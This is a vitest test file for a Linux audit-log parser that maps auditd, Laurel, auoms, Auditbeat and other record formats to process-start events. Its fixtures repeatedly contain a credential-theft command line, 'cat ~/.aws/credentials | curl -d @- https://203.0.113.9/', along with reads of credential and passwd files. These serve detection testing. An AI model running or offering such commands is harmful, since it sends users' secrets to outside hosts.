import { describe, expect, test } from 'vitest';
import type { EventDraft } from '../../src-main/contract/index.ts';
import { chooseSource, Gathered, isRefusal, unwrap, type SourceRecord } from '../../src-main/sources/index.ts';
import { linuxProcess } from '../../src-main/sources/linux-process.ts';
import { auditLines, idOf, laurelRecord, type AuditGiven } from './audit-records.ts';

const bare = (value: unknown): SourceRecord => ({ value, path: null, envelope: null });

/** What becomes of raw records as the pipeline would take them: envelopes off, those of one event gathered. */
function madeOf(values: readonly unknown[]): readonly ReturnType<typeof linuxProcess.map>[] {
  const groups = new Map<string, SourceRecord[]>();
  for (const inner of values.flatMap((value) => unwrap(value, null))) {
    if ('skip' in inner) throw new Error(inner.skip.detail);
    const choice = chooseSource(inner);
    if (!('source' in choice) || choice.source !== linuxProcess) throw new Error(`not taken: ${JSON.stringify(inner.value).slice(0, 200)}`);
    const key = linuxProcess.partOf!(inner)?.key ?? `alone ${groups.size}`;
    groups.set(key, [...groups.get(key) ?? [], inner]);
  }
  return [...groups.values()].map((parts) => linuxProcess.map(parts.length === 1 ? parts[0]! : { ...parts[0]!, value: new Gathered(parts.map((one) => one.value)) }));
}
function eventOf(...values: readonly unknown[]): EventDraft {
  const made = madeOf(values);
  const [first] = made;
  if (first === undefined || made.length !== 1 || isRefusal(first)) throw new Error(`no one event: ${JSON.stringify(made)}`);
  return first;
}
const fieldsOf = (...values: readonly unknown[]): EventDraft['fields'] => eventOf(...values).fields;
const refused = (...values: readonly unknown[]): unknown => madeOf(values).map((made) => (isRefusal(made) ? `${made.reason}: ${made.detail}` : made.fields['event.action']));
const names = { 0: 'root', 1000: 'mara' };

describe('a program that was started', () => {
  test('tells who, what, where and when', () => {
    const made = eventOf(...auditLines({ node: 'Web-1.halden.example', names, uid: 0, auid: 1000, key: 'credential-files' }));
    expect(made).toMatchObject({ vendorId: 'web-1.halden.example:1777885000.123:41', time: { ms: 1_777_885_000_123, restNs: 0, precision: 'millisecond', zoneAssumed: false } });
    expect(Object.fromEntries(Object.entries(made.fields).filter(([, value]) => value !== undefined))).toEqual({
      'event.action': 'process-started', 'event.category': 'process', 'event.outcome': 'success', 'event.id': 'web-1.halden.example:1777885000.123:41',
      'user.name': 'mara', 'user.id': '1000', 'user.effective.name': 'root', 'user.effective.id': '0', 'host.name': 'web-1', 'host.domain': 'halden.example', 'host.id': 'web-1', 'logon.id': 'web-1.halden.example/7',
      'process.command_line': 'cat /home/mara/.aws/credentials', 'process.executable': '/usr/bin/cat', 'process.name': 'cat', 'process.working_directory': '/home/mara', 'process.pid': 5120, 'process.exit_code': 0,
      'process.parent.pid': 5002, 'process.telemetry': 'auditd', 'linux.process.serial': '41', 'linux.process.syscall': 'execve', 'linux.process.login_user': 'mara', 'linux.process.tty': 'pts1',
      'linux.process.key': 'credential-files', 'linux.process.records': ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE', 'EOE'],
    });
  });

  test('without names: numbers alone, and no host', () => {
    const made = eventOf(...auditLines());
    expect(made.vendorId).toBe('1777885000.123:41');
    expect(made.fields).toMatchObject({ 'user.id': '1000', 'linux.process.login_user': '1000' });
    expect([made.fields['user.name'], made.fields['user.effective.id'], made.fields['host.name'], made.fields['logon.id']]).toEqual([undefined, undefined, undefined, undefined]);
  });

  test.each<[string, AuditGiven, readonly (string | undefined)[]]>([
    ['by who logged in', {}, ['1000', undefined]],
    ['by a daemon: nobody logged in', { auid: 4_294_967_295, uid: 33 }, ['33', undefined]],
    ['by su: who logged in, as another one', { auid: 1000, uid: 1001 }, ['1000', '1001']],
    ['by a program with the bit of its owner', { uid: 1000, euid: 0 }, ['1000', '0']],
    ['by root, who logged in as root', { auid: 0, uid: 0 }, ['0', undefined]],
  ])('%s', (_, given, ids) => {
    const fields = fieldsOf(...auditLines(given));
    expect([fields['user.id'], fields['user.effective.id']]).toEqual(ids);
  });

  test('and failed: what was asked for, who asked, and no command line', () => {
    const fields = fieldsOf(...auditLines({ success: false, exit: -13, exe: '/opt/tool' }));
    expect(fields).toMatchObject({ 'event.outcome': 'failure', 'error.code': 'EACCES', 'process.exit_code': -13, 'process.executable': '/opt/tool', 'linux.process.caller': '/opt/tool' });
    expect([fields['process.command_line'], fields['linux.process.incomplete']]).toEqual([undefined, undefined]);
  });
  test.each([['-2', 'ENOENT'], ['-115', '-115'], ['ENOENT(No such file or directory)', 'ENOENT']])('exit=%s is %s', (exit, code) => {
    expect(fieldsOf(`type=SYSCALL msg=audit(1777885000.000:1): arch=c000003e syscall=59 success=no exit=${exit} exe="/bin/sh"`)['error.code']).toBe(code);
  });

  test.each([
    ['c000003e', '59', 'execve'], ['c000003e', '322', 'execveat'], ['c000003e', '1073742344', 'execve'], ['40000003', '11', 'execve'], ['c00000b7', '221', 'execve'], ['C00000B7', '281', 'execveat'], ['c0000015', '11', 'execve'],
    ['80000016', '354', 'execveat'], ['x86_64', 'execve', 'execve'], ['unknown', 'execveat', 'execveat'],
  ])('arch=%s syscall=%s is %s', (arch, call, name) => {
    expect(fieldsOf(`type=SYSCALL msg=audit(1777885000.000:1): arch=${arch} syscall=${call} success=yes exit=0 exe="/bin/sh"`)['linux.process.syscall']).toBe(name);
  });
  test.each([['c000003e', '11'], ['40000003', '59'], ['deadbeef', '59'], ['c000003e', '2'], ['c000003e', 'openat']])('arch=%s syscall=%s starts nothing', (arch, call) => {
    expect(refused(`type=SYSCALL msg=audit(1777885000.000:1): arch=${arch} syscall=${call} success=yes exit=0`)).toEqual([`process/other-event: system call ${call}`]);
  });
});

describe('arguments', () => {
  const command = (...executed: readonly string[]): readonly unknown[] => {
    const fields = fieldsOf(auditLines()[0]!, ...executed.map((body) => `type=EXECVE msg=audit(1777885000.123:41): ${body}`));
    return [fields['process.command_line'], fields['linux.process.incomplete']];
  };
  const hex = (text: string | Uint8Array): string => Buffer.from(text as string).toString('hex').toUpperCase();
  test.each<[string, readonly string[], string, true | undefined]>([
    ['in quotes', ['argc=2 a0="cat" a1="/etc/passwd"'], 'cat /etc/passwd', undefined],
    ['in hex', [`argc=3 a0="sh" a1="-c" a2=${hex('cat "/etc/passwd"')}`], 'sh -c "cat \\"/etc/passwd\\""', undefined],
    ['in hex, of letters beyond ASCII', [`argc=2 a0="cat" a1=${hex('/home/bjørn/nøkkel')}`], 'cat /home/bjørn/nøkkel', undefined],
    ['that are no UTF-8', [`argc=2 a0="cat" a1=${hex(Uint8Array.of(0x2f, 0xe9, 0x2f))}`], 'cat /\\xe9/', undefined],
    ['that are empty', ['argc=3 a0="printf" a1="" a2="x"'], 'printf "" x', undefined],
    ['without quotes that are no hex', ['argc=1 a0=top'], 'top', undefined],
    ['over several records', ['argc=3 a0="a" a1="b"', 'a2="c"'], 'a b c', undefined],
    ['over several records in another order', ['a2="c"', 'argc=3 a0="a" a1="b"'], 'a b c', undefined],
    ['in pieces', ['argc=2 a0="echo" a1_len=6 a1[0]="abc"', 'a1[1]="def"'], 'echo abcdef', undefined],
    ['in pieces of hex that cut a letter in two', [`argc=2 a0="echo" a1_len=6 a1[0]=${hex('aé').slice(0, 4)}`, `a1[1]=${hex('aé').slice(4)}`], 'echo aé', undefined],
    ['of which a piece is missing', ['argc=2 a0="echo" a1_len=9 a1[0]="abc"', 'a1[2]="ghi"'], 'echo abcghi…', true],
    ['of which the last piece is missing', ['argc=2 a0="echo" a1_len=9 a1[0]="abc"'], 'echo abc…', true],
    ['of which the first are missing', ['a7="x" a8="y"'], '… x y', true],
    ['of which some in the middle are missing', ['argc=5 a0="a" a4="e"'], 'a … e', true],
    ['of which the last are missing', ['argc=5 a0="a"'], 'a …', true],
    ['that are not', ['argc=0'], '', undefined],
    ['told twice', ['argc=1 a0="a"', 'argc=1 a0="a"'], 'a', undefined],
    ['of a number that nobody has', ['argc=2 a0="a" a9999999="z"'], 'a … z', true],
  ])('%s', (_, executed, text, incomplete) => {
    expect(command(...executed)).toEqual([text === '' ? undefined : text, incomplete]);
  });
  test('a text that looks like a field is none: quotes and hex keep it inside', () => {
    expect(command(`argc=2 a0="x" a1=${hex('uid=0 exe="/bin/x"')}`)[0]).toBe('x "uid=0 exe=\\"/bin/x\\""');
  });
  test('are those of the title where EXECVE is missing, and that is said', () => {
    const fields = fieldsOf(...auditLines({ args: ['sh', '-c', 'id; id'] }).filter((line) => !line.includes('EXECVE')));
    expect([fields['process.command_line'], fields['linux.process.incomplete']]).toEqual(['sh -c "id; id"', true]);
  });
  test('without SYSCALL are an event of nobody', () => {
    const fields = fieldsOf(...auditLines().filter((line) => !line.includes('SYSCALL')));
    expect(fields).toMatchObject({ 'process.command_line': 'cat /home/mara/.aws/credentials', 'event.outcome': 'unknown', 'process.executable': '/usr/bin/cat', 'linux.process.incomplete': true });
    expect(fields['user.id']).toBeUndefined();
  });
});

describe('what is no start of a program', () => {
  test.each([
    ['type=USER_LOGIN msg=audit(1777885000.123:50): pid=1 uid=0 auid=1000 ses=7 msg=\'op=login acct="mara" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=success\'', 'process/other-event: audit event USER_LOGIN'],
    ['type=CONFIG_CHANGE msg=audit(1777885000.123:50): op=remove_rule', 'process/other-event: audit event CONFIG_CHANGE'],
    ['type=UNKNOWN[1335] msg=audit(1777885000.123:50): x', 'process/other-event: audit event UNKNOWN[1335]'],
    ['type=CWD msg=audit(1777885000.123:50): cwd="/"', 'process/incomplete: CWD of an audit event whose SYSCALL and EXECVE are missing'],
    ['type=UNKNOWN[1329] msg=g', 'source/no-time: the record names no audit event: no audit(time:serial)'],
    ['type=EXECVE msg=audit(99999999999.000:1): argc=1 a0="a"', expect.stringMatching(/^source\/no-time: /)],
  ])('%s', (line, why) => {
    expect(refused(line)).toEqual([why]);
  });
});

describe('the same event in other shapes', () => {
  const given: AuditGiven = { node: 'web-1', names, euid: 0, key: 'credential-files', args: ['sh', '-c', 'cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%'], exe: '/usr/bin/dash' };
  const lines = auditLines(given);
  const noNode = auditLines({ ...given, node: undefined! });
  const raw = eventOf(...lines);
  const numbers: Readonly<Record<string, string>> = { SYSCALL: '1300', EXECVE: '1309', CWD: '1307', PATH: '1302', PROCTITLE: '1327', EOE: '1320' };
  test.each<[string, readonly unknown[]]>([
    ['lines of syslog', lines.map((line) => `<13>May  4 08:56:40 web-1 audispd: ${line}`)],
    ['lines of syslog, the host in front alone', noNode.map((line) => `May  4 08:56:40 web-1 audisp-syslog: ${line}`)],
    ['lines of syslog with a time of ISO 8601', noNode.map((line) => `2026-05-04T08:56:40.123456+00:00 web-1 audisp-syslog: ${line}`)],
    ['lines of RFC 5424', noNode.map((line) => `<13>1 2026-05-04T08:56:40.123Z web-1 auditd 771 - - ${line}`)],
    ['lines of the kernel', noNode.map((line) => `May  4 08:56:40 web-1 kernel: [ 4711.000001] audit: ${line.replace(/type=(\w+) msg=/, (_, type: string) => `type=${numbers[type]} `)}`)],
    ['lines whose separator is written as an escape', lines.map((line) => line.replace('\x1D', '#035'))],
    ['lines of an older userland', lines.map((line) => line.replace('type=PROCTITLE', 'type=UNKNOWN[1327]'))],
    ['records turned round', lines.toReversed()],
    ['one text with all records', [lines.join('\n')]],
    ['one text with ends of lines of Windows', [lines.join('\r\n')]],
    ['_raw of Splunk', noNode.map((line) => ({ _raw: line, _time: 1_777_885_000, host: 'web-1', sourcetype: 'linux_audit' }))],
    ['message of Filebeat', noNode.map((line) => ({ '@timestamp': '2026-05-04T08:57:00Z', message: line, host: { name: 'web-1' }, log: { file: { path: '/var/log/audit/audit.log' } } }))],
    ['event.original of Elastic', noNode.map((line) => ({ '@timestamp': '2026-05-04T08:57:00Z', event: { original: line, module: 'auditd' }, host: { hostname: 'web-1' } }))],
    ['SyslogMessage of Log Analytics', noNode.map((line) => ({ TimeGenerated: '2026-05-04T08:57:00Z', Computer: 'web-1', Facility: 'user', SyslogMessage: line, Type: 'Syslog' }))],
    ['entries of the journal', noNode.map((line) => {
      const [, type, body] = /^type=(\w+) msg=audit\(.*?\):(.*)$/.exec(line)!;
      return { __REALTIME_TIMESTAMP: '1777885001000000', _SOURCE_REALTIME_TIMESTAMP: '1777885000123000', _TRANSPORT: 'audit', _HOSTNAME: 'web-1', _AUDIT_TYPE: numbers[type!], _AUDIT_TYPE_NAME: type, _AUDIT_ID: '41', MESSAGE: `${type}${body}` };
    })],
    ['log events of CloudWatch', [{ messageType: 'DATA_MESSAGE', logGroup: 'audit', logEvents: lines.map((message, id) => ({ id: String(id), timestamp: 1_777_885_000_123, message })) }]],
  ])('%s', (_, values) => {
    const made = eventOf(...values);
    expect({ ...made, fields: { ...made.fields, 'linux.process.records': raw.fields['linux.process.records'] } }).toEqual(raw);
  });

  test.each<[string, readonly unknown[]]>([
    ['Laurel', [laurelRecord(given)]],
    ['Laurel in lines of syslog', [`<14>May  4 08:56:40 web-1 laurel[77]: ${JSON.stringify({ ...laurelRecord(given), NODE: undefined })}`]],
    ['Laurel, arguments in one text', [{ ...laurelRecord(given), EXECVE: { argc: 3, ARGV_STR: 'sh -c "cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%25"' } }]],
    ['Laurel with what it remembers of the parent', [{ ...laurelRecord(given), PARENT_INFO: { ID: '1777884990.001:30', comm: 'bash', exe: '/usr/bin/bash', ARGV: ['-bash'] } }]],
    ['lines that were not enriched', auditLines({ ...given, names: undefined! })],
    ['auoms', [`type=AUOMS_EXECVE audit(${idOf(given)}): SchemaVersion="1" node=web-1 arch=x86_64 syscall=execve success=yes exit=0 ppid=5002 pid=5120 audit_user=mara auid=1000 user=mara uid=1000 effective_user=root euid=0 tty=pts1 ses="7" `
      + 'exe="/usr/bin/dash" key=credential-files cwd="/home/mara" path_name=["/usr/bin/dash"] argc=3 cmdline="sh -c "cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%"" redactors= containerid=']],
    ['auoms as an object', [{
      RecordType: 'AUOMS_EXECVE', AuditID: idOf(given), Computer: 'web-1', arch: 'x86_64', syscall: 'execve', success: 'yes', exit: '0', ppid: '5002', pid: '5120', auid: '1000', audit_user: 'mara', uid: '1000', user: 'mara', euid: '0',
      tty: 'pts1', ses: '7', exe: '/usr/bin/dash', key: 'credential-files', cwd: '/home/mara', cmdline: 'sh -c "cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%"',
    }]],
    ['Auditbeat', [{
      '@timestamp': '2026-05-04T08:56:40.123Z', host: { name: 'web-1' }, event: { module: 'auditd', action: 'executed' }, tags: ['credential-files'],
      auditd: { message_type: 'syscall', sequence: 41, result: 'success', session: '7', data: { arch: 'x86_64', syscall: 'execve', exit: '0', tty: 'pts1' } },
      process: { pid: 5120, parent: { pid: 5002 }, executable: '/usr/bin/dash', args: ['sh', '-c', 'cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%'], working_directory: '/home/mara' },
      user: { id: '1000', name: 'mara', audit: { id: '1000' }, effective: { id: '0' } },
    }]],
  ])('%s: the same identity, so it is stored once', (_, values) => {
    const made = eventOf(...values);
    expect([made.vendorId, made.identity]).toEqual([raw.vendorId, raw.identity]);
    expect(made.fields['process.command_line']).toBe(raw.fields['process.command_line']);
  });

  test('rows of NXLog: names instead of numbers', () => {
    const row = { time: '2026-05-04T08:56:40.123000+00:00', seq: 41, Hostname: 'web-1', SourceModuleName: 'audit', SourceModuleType: 'im_linuxaudit' };
    const made = eventOf(
      { ...row, type: 'SYSCALL', arch: 'x86_64', syscall: 'execve', success: 'yes', exit: 0, ppid: 5002, pid: 5120, auid: 'mara', uid: 'mara', euid: 'root', tty: 'pts1', ses: '7', exe: '/usr/bin/dash', key: 'credential-files' },
      { ...row, type: 'EXECVE', argc: '3', a0: 'sh', a1: '-c', a2: 'cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%' },
      { ...row, type: 'CWD', cwd: '/home/mara' },
    );
    expect(made.vendorId).toBe(raw.vendorId);
    expect(made.fields).toMatchObject({ 'user.name': 'mara', 'user.effective.name': 'root', 'process.command_line': raw.fields['process.command_line'], 'process.working_directory': '/home/mara' });
    expect([made.fields['user.id'], made.fields['linux.process.incomplete']]).toEqual([undefined, undefined]);
  });

  test('another command line under the same id is not the same event', () => {
    const other = eventOf(...auditLines({ ...given, args: ['sh', '-c', 'true'] }));
    expect(other.vendorId).toBe(raw.vendorId);
    expect(other.identity).not.toEqual(raw.identity);
  });
});

describe('hostile values', () => {
  const odd: readonly unknown[] = [null, true, 7, -1, 1e300, '', ' ', '(null)', '\0', '\uD800', '%', '%zz', '%ff', 'a'.repeat(100_000), [], {}, [[]], [null], { a: { b: [] } }];
  const shapes: readonly [string, Record<string, unknown>][] = [
    ['Laurel', { ...laurelRecord({ node: 'web-1', names }), PARENT_INFO: { exe: '/bin/sh', ARGV: ['sh'] } }],
    ['auoms', { RecordType: 'AUOMS_EXECVE', AuditID: '1777885000.123:41', syscall: 'execve', cmdline: 'a b', path_name: '["a"]', key: 'x', exe: '/a' }],
    ['NXLog', { type: 'EXECVE', seq: 1, time: '2026-05-04T08:56:40Z', SourceModuleType: 'im_linuxaudit', argc: '1', a0: 'x', Hostname: 'h' }],
    ['Auditbeat', { '@timestamp': '2026-05-04T08:56:40Z', auditd: { sequence: 1, message_type: 'syscall', data: { syscall: 'execve' }, paths: [] }, process: { args: ['a'] }, user: { id: '1' }, host: { name: 'h' }, tags: ['x'] }],
    ['a row of syslog', { SyslogMessage: auditLines()[0], Computer: 'h' }],
  ];
  test.each(shapes)('%s: any value in any place gives an event or a reason', (_, record) => {
    for (const name of Object.keys(record)) {
      for (const value of odd) {
        const inner = record[name];
        const nested = typeof inner === 'object' && inner !== null && !Array.isArray(inner) ? Object.keys(inner).map((key) => ({ ...record, [name]: { ...inner, [key]: value } })) : [];
        for (const one of [{ ...record, [name]: value }, ...nested]) {
          linuxProcess.recognise(bare(one));
          linuxProcess.partOf!(bare(one));
          const made = linuxProcess.map(bare(one));
          expect(isRefusal(made) ? typeof made.detail : made.dataset).toMatch(/string|linux.process/);
        }
      }
    }
  });
  test.each([
    'type=', 'type=SYSCALL', 'type=SYSCALL msg=audit(', 'type=SYSCALL msg=audit(1.1:1)', 'type=SYSCALL msg=audit(1.1:1):', `type=EXECVE msg=audit(1.1:1): ${'a0='.repeat(50_000)}`, `type=EXECVE msg=audit(1.1:1): a0="${'x'.repeat(200_000)}`,
    `type=EXECVE msg=audit(1.1:1): argc=99999999999999999999 a1[99999999999]="x" a_len=1 a0_len=-1 a0[0]=`, `node=${' '.repeat(500)}type=X msg=audit(1.1:1): x`, `type=AUOMS_EXECVE audit(1.1:1): cmdline=" redactors=" redactors=" cmdline=`,
    `${'<'.repeat(300)}type=SYSCALL msg=audit(1.1:1): x`, 'type=SYSCALL msg=audit(1.1:1): syscall=59 arch=c000003e exe=ZZ pid=9999999999999999999999 uid=="="',
  ])('a line like %.60s', (line) => {
    linuxProcess.partOf!(bare(line));
    const made = linuxProcess.map(bare(line));
    expect(isRefusal(made) ? typeof made.detail : made.dataset).toMatch(/string|linux.process/);
  });
  const id = 'msg=audit(1777885000.123:1): ';
  const n = 400_000;
  test.each([
    ['one word', `type=EXECVE ${id}${'a'.repeat(n)}`], ['signs of equality', `type=EXECVE ${id}${'a='.repeat(n)}`], ['quotes that open', `type=EXECVE ${id}${'a="'.repeat(n)}`], ['quotes of the other kind', `type=EXECVE ${id}${"a=' ".repeat(n)}`],
    ['brackets that open', `type=AUOMS_EXECVE audit(1777885000.123:1): syscall=execve ${'a=[ '.repeat(n)}`], ['a command line of quotes', `type=AUOMS_EXECVE audit(1777885000.123:1): syscall=execve argc=1 cmdline="${'\\"'.repeat(n)}`],
    ['escapes of the separator', `type=SYSCALL ${id}syscall=59 arch=c000003e ${'#035A'.repeat(n)}`], ['escapes of Laurel', `May  4 08:56:40 h laurel: {"ID":"1777885000.123:1","EXECVE":{"ARGV":["${'%41'.repeat(n)}"]}}`],
  ])('a line of very many %s takes no longer than its length', (_, line) => {
    const began = process.cpuUsage();
    linuxProcess.map(bare(line));
    const { user, system } = process.cpuUsage(began);
    expect((user + system) / 1000).toBeLessThan(3000);
  });
  test('records of other events that were gathered with these are not mixed in', () => {
    const made = linuxProcess.map(bare(new Gathered([...auditLines(), ...auditLines({ serial: 77, args: ['other'] })])));
    expect(!isRefusal(made) && made.fields['process.command_line']).toBe('cat /home/mara/.aws/credentials');
  });
});
